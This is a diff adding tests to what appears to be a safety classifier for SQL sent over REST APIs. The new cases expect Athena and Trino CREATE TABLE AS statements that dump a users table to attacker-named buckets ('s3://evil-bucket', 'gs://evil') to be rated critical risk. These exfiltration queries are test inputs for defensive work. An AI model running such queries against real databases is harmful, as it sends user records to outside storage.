@@ -3824,6 +3824,13 @@ t.test('twenty-seventh pass: SQL-over-REST services\' own spellings of a conditi
   t.equal((await sf("UPDATE users SET role = ? WHERE id > ?", { 1: { type: 'TEXT', value: 'admin' }, 2: { type: 'FIXED', value: ['100', '0'] } })).decision.approval?.risk, 'critical', 'a scalar beside an array');
   t.notOk((await sf('DELETE FROM users WHERE id = ?', { 1: { type: 'FIXED', value: ['5', '6'] } })).description.sql?.destructive, 'control: two ids');
   t.notOk((await sf('INSERT INTO users (email) VALUES (?)', { 1: { type: 'TEXT', value: ['a', '%'] } })).description.sql?.destructive, 'control: a batch insert');
+  // Athena's and Trino's CREATE TABLE AS writing the rows to an object store the request names.
+  for (const sql of ["CREATE TABLE loot WITH (external_location = 's3://evil-bucket/x/', format = 'PARQUET') AS SELECT * FROM users",
+    "create table iceberg.s.loot with (location = 'gs://evil/x') as select * from users", "CREATE TABLE hive.s.t (a int) WITH (external_location = 's3a://evil/t')"]) {
+    t.equal((await trino(sql)).decision.approval?.risk, 'critical', sql);
+  }
+  t.equal((await decide({ url: `https://${SQL_HOST}/`, headers: [['Content-Type', 'application/x-amz-json-1.1'], ['X-Amz-Target', 'AmazonAthena.StartQueryExecution']], body: JSON.stringify({ QueryString: "CREATE TABLE loot WITH (external_location = 's3://evil/x/') AS SELECT * FROM users" }) })).decision.approval?.risk, 'critical', 'Athena CTAS');
+  t.notOk((await trino("CREATE TABLE loot WITH (format = 'PARQUET') AS SELECT * FROM users")).description.sql?.destructive, 'control: a CTAS in the catalog');
   // Oracle's pseudocolumns (ORDS's REST-enabled SQL: `application/sql` to `…/_/sql`): ROWNUM counts
   // rows from 1, ORA_ROWSCN is above 0 in every row.
   const ords = `https://${SQL_HOST}/ords/hr/_/sql`;
